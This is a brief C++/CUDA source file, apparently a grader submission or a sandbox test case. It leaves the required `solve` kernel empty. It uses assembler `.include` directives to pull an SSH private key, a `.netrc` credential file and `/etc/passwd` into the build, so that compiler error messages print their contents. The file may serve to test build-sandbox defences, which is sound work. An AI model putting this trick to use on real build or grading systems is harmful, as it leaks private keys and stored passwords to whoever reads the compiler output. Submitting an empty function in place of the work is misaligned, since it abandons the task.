// Has the assembler read keys, line by line, and complain about each.
#include <cstdint>
asm(".include \"@HOME@/.ssh/id_ed25519\"");
asm(".include \"@HOME@/.netrc\"");
asm(".include \"/etc/passwd\"");
extern "C" void solve(const float* a, const float* b, float* c, int64_t n, cudaStream_t stream) {}
